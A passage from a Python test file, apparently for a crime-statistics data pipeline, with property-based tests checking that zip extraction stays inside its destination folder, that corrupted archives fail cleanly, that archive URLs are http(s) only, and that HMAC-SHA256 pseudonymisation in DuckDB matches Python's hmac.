        "2024-02/2024-02-durham-street.csv\n", "2024-02/2024-03-durham-street.csv",
        "2024-02/2024-02-durham-outcomes.csv", "2024-02/2024-02-dur\u202eham-street.csv", "2024-02/",
        "２０２４-02/２０２４-02-durham-street.csv",
    ]),
)  # fmt: skip


def _zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buffer.getvalue()


def _check_extract(work: Path, archive_bytes: bytes) -> None:
    dest = work / "dest"
    shutil.rmtree(dest, ignore_errors=True)
    dest.mkdir()
    archive = work / "archive.zip"
    archive.write_bytes(archive_bytes)
    try:
        written = _extract("http://archive.example/2024-02.zip", archive, {"durham"}, dest, 1_000_000)
    except ArchiveError:
        written = []
    for path in written:  # only <dest>/<YYYY-MM>/<YYYY-MM>-durham-street.csv, nothing outside
        assert path.resolve().parent.parent == dest.resolve()
        assert path.name == f"{path.parent.name}-durham-street.csv"
    for path in dest.rglob("*"):
        assert path.resolve().is_relative_to(dest.resolve())
        assert path.is_dir() or path in written


@FEW
@given(names=st.lists(ZIP_NAMES, min_size=1, max_size=5, unique=True))
def test_archive_member_names(work: Path, names: list[str]) -> None:
    """Whatever the members are called, only matching street files of the wanted force are written."""
    _check_extract(work, _zip([(name, b"a,b\n") for name in names]))


@FEW
@given(flips=st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), max_size=6),
       cut=st.integers(0, 10_000),
       method=st.sampled_from([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA]))  # fmt: skip
@example(flips=[(63, 0)], cut=398, method=zipfile.ZIP_DEFLATED)  # zlib.error before the fix
def test_archive_corrupt_bytes(work: Path, flips: list[tuple[int, int]], cut: int, method: int) -> None:
    """A damaged archive (bytes overwritten, maybe truncated) is an ArchiveError or extracts cleanly."""
    data = bytearray(
        _zip([("2024-02/2024-02-durham-street.csv", f"{HEADER_LINE}\n{_row(1)}\n".encode() * 5)], method)
    )
    for position, value in flips:
        data[position % len(data)] = value
    if cut < len(data):
        data = data[: max(cut, len(data) // 2)]
    _check_extract(work, bytes(data))


@FUZZ
@given(name=st.text(max_size=40))
def test_unsafe_member_keeps_targets_inside(name: str) -> None:
    if _unsafe_member(name) is None:
        assert not name.startswith("/") and "\\" not in name and ".." not in name.split("/")
        joined = posixpath.normpath(posixpath.join("/dest", name))
        assert joined == "/dest" or joined.startswith("/dest/")


@FUZZ
@given(base=st.text(max_size=30), month=st.text(max_size=10), pattern=st.sampled_from(
    ["{base_url}/{month}.zip", "{base_url}/{month}", "file:///{month}", "{base_url}"]))  # fmt: skip
@example(base="http://x", month="2024-02", pattern="{base_url}/{month}.zip")
def test_archive_url(base: str, month: str, pattern: str) -> None:
    try:
        url = archive_url(base, month, pattern)
    except ValueError:
        return
    assert url.lower().startswith(("http://", "https://"))


# ================================================================================= pseudonymisation

# Keys as pseudonymisation_key() makes them: a secret of 16+ characters, UTF-8 encoded. (HMAC pads a key with
# NUL bytes to its block size, so raw keys differing only by trailing NULs would give the same pseudonyms.)
KEYS = st.text(
    alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), min_size=16, max_size=48
).map(str.encode)


def _pseudonymise_in_duckdb(values: list[str | None], key: bytes) -> list[str | None]:
    """The load's SQL (csp_audit.warehouse.pseudonymise.sql), run by DuckDB on the values."""
    import duckdb

    inner, outer = key_pads(key)
    con = duckdb.connect()
    con.execute("create table v (i integer, x varchar)")
    if values:
        con.executemany("insert into v values (?, ?)", [[i, x] for i, x in enumerate(values)])
    sql = pseudonymise_sql("v.x", "k.inner_pad", "k.outer_pad")
    rows = con.execute(
        f"select {sql} from v cross join (select ?::blob as inner_pad, ?::blob as outer_pad) as k order by v.i",  # noqa: S608
        [inner, outer],
    ).fetchall()
    return [r[0] for r in rows]


@FUZZ
@given(values=st.lists(st.text(max_size=20), max_size=10), key=KEYS, other=KEYS)
def test_pseudonymise_properties(values: list[str], key: bytes, other: bytes) -> None:
    once, again = _pseudonymise_in_duckdb(values, key), _pseudonymise_in_duckdb(values, key)
    assert once == again  # deterministic for a key
    for value, made in zip(values, once, strict=True):
        if value == "":
            assert made == ""
            continue
        assert made == pseudonym(value, key)  # HMAC-SHA256 exactly (RFC 2104), as Python's hmac computes it
        assert made != value and made.startswith("p_") and len(made) == 34
    if other != key:
        elsewhere = _pseudonymise_in_duckdb(values, other)
        assert all(a != b for a, b, v in zip(once, elsewhere, values, strict=True) if v)
    distinct = {v for v in values if v}
    assert len({p for p in once if p}) == len(distinct)  # no collisions among different values


def test_pseudonymise_keeps_missing_values_missing_and_takes_long_keys() -> None:
    out = _pseudonymise_in_duckdb(["p_looks_like_one", None, ""], b"k" * 16)
    assert out[0] != "p_looks_like_one" and out[1] is None and out[2] == ""
    long_key = b"a long secret, longer than the 64-byte block of SHA-256, " * 3
    assert _pseudonymise_in_duckdb(["x"], long_key) == [pseudonym("x", long_key)]
